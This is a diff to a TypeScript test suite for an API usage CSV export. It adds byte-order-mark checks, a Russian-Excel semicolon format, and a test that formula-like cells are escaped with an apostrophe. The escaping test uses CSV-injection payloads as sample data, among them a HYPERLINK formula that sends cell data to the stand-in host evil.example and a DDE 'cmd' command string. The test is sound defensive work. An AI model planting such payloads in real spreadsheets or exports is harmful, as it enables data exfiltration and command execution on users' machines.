@@ -48,10 +48,14 @@ afterAll(async () => {
 
 async function exportCsv(query: string, token?: string) {
   const res = await fetch(`${app.url}/api/usage/export${query}`, { headers: token ? { authorization: `Bearer ${token}` } : {} });
-  const text = await res.text();
+  // The bytes as a spreadsheet sees them: a CSV starts with the UTF-8 byte-order mark, which res.text() would drop.
+  const bytes = new Uint8Array(await res.arrayBuffer());
   const isCsv = res.headers.get('content-type')?.startsWith('text/csv') ?? false;
-  const rows: Record<string, string>[] = isCsv ? parse(text, { columns: true }) : [];
-  return { res, text, rows, body: isCsv ? undefined : JSON.parse(text) };
+  const hasBom = bytes[0] === 0xef && bytes[1] === 0xbb && bytes[2] === 0xbf;
+  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(hasBom ? bytes.subarray(3) : bytes);
+  const delimiter = query.includes('format=excel-ru') ? ';' : ',';
+  const rows: Record<string, string>[] = isCsv ? parse(text, { columns: true, delimiter }) : [];
+  return { res, text, rows, hasBom, body: isCsv ? undefined : JSON.parse(text) };
 }
 
 /** Usage rows written straight to the table (many, at chosen instants), as the gateway records them. */
@@ -75,8 +79,9 @@ describe('GET /api/usage/export', () => {
     for await (const _ of stream) void _;
     await settleAll(app);
 
-    const { res, text, rows } = await exportCsv('', user.token);
+    const { res, text, rows, hasBom } = await exportCsv('', user.token);
     expect(res.status).toBe(200);
+    expect(hasBom).toBe(true);
     expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
     expect(res.headers.get('content-disposition')).toBe('attachment; filename="conduit-usage.csv"');
     expect(text.split('\r\n')[0]).toBe(COLUMNS.join(','));
@@ -135,11 +140,74 @@ describe('GET /api/usage/export', () => {
     const empty = await exportCsv('?from=2030-01-01', user.token);
     expect(empty.res.status).toBe(200);
     expect(empty.text).toBe(`${COLUMNS.join(',')}\r\n`);
+    expect(empty.hasBom).toBe(true);
 
     // Another account's records never appear, whatever the filter.
     const stranger = await registerUser(app.url);
     expect((await exportCsv('', stranger.token)).rows).toHaveLength(0);
     expect((await exportCsv(`?keyId=${first.id}`, stranger.token)).rows).toHaveLength(0);
+  });
+
+  test('text cells that a spreadsheet would run as a formula get a leading apostrophe; numbers stay numbers', async () => {
+    const user = await registerUser(app.url);
+    const names = ['=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")', '@SUM(1+1)*cmd|', '+7 900', '-1+2', 'Обычный =ключ'];
+    const keys = [];
+    for (const name of names) keys.push(await createApiKey(app.url, user.token, name));
+    for (const key of keys) await insertUsage(user.userId, key.id, 1, '2026-05-01T00:00:00Z');
+    // A model id is the client's text as well (key names are trimmed, model ids are not).
+    const models = [`=cmd|' /C calc'!A0`, '\t=1+1', '\r=1+1', 'acme/-1'];
+    for (const [i, model] of models.entries()) {
+      await app.sql(
+        `insert into usage_records (user_id, model, status, prompt_tokens, completion_tokens, total_tokens, cost_nano, created_at)
+         values ($1, $2, 'ok', 1, 2, 3, 0, $3)`,
+        [user.userId, model, `2026-05-0${5 - i}T00:00:00Z`],
+      );
+    }
+
+    const { rows } = await exportCsv('', user.token);
+    expect(rows.slice(0, 4).map((r) => r.model)).toEqual([`'=cmd|' /C calc'!A0`, `'\t=1+1`, `'\r=1+1`, 'acme/-1']);
+    const byKey = new Map(rows.slice(4).map((r) => [r.key_id, r.key_name]));
+    expect(keys.map((k) => byKey.get(k.id))).toEqual([
+      `'=HYPERLINK("http://evil.example/?x="&A1,"Нажмите")`,
+      `'@SUM(1+1)*cmd|`,
+      `'+7 900`,
+      `'-1+2`,
+      'Обычный =ключ',
+    ]);
+    // Numbers are written as numbers, never with an apostrophe.
+    expect(rows.every((r) => /^\d+$/.test(r.id!) && /^\d+\.\d{9}$/.test(r.cost!) && /^\d+$/.test(r.total_tokens!))).toBe(true);
+  });
+
+  test('format=excel-ru: semicolons, a decimal comma in money, the BOM; a bad format is a 400', async () => {
+    const user = await registerUser(app.url);
+    const key = await createApiKey(app.url, user.token, 'Сайт; основной, 1.5');
+    await insertUsage(user.userId, key.id, 2, '2026-06-01T00:00:00Z');
+
+    const ru = await exportCsv('?format=excel-ru&from=2026-06-01', user.token);
+    expect(ru.res.status).toBe(200);
+    expect(ru.hasBom).toBe(true);
+    expect(ru.text.split('\r\n')[0]).toBe(COLUMNS.join(';'));
+    expect(ru.res.headers.get('content-disposition')).toBe('attachment; filename="conduit-usage-2026-06-01-now.csv"');
+    expect(ru.rows).toHaveLength(2);
+    expect(ru.rows[0]).toMatchObject({
+      key_name: 'Сайт; основной, 1.5',
+      prompt_cost: '0,000001250',
+      completion_cost: '0,000002500',
+      unpaid: '0,000000000',
+      cost: '0,000003750',
+      total_tokens: '30',
+    });
+    // The name holding the separator is quoted, and a comma no longer is.
+    expect(ru.text).toContain('"Сайт; основной, 1.5"');
+
+    const plain = await exportCsv('?format=csv&from=2026-06-01', user.token);
+    expect(plain.rows[0]).toMatchObject({ cost: '0.000003750', key_name: 'Сайт; основной, 1.5' });
+
+    for (const bad of ['excel', 'EXCEL-RU', '', 'excel-ru\u0000']) {
+      const res = await exportCsv(`?format=${encodeURIComponent(bad)}`, user.token);
+      expect(res.res.status).toBe(400);
+      expect(res.body.error.type).toBe('invalid_request_error');
+    }
   });
 
   test('key scope: a key exports its own records, an account key and the JWT all of them', async () => {
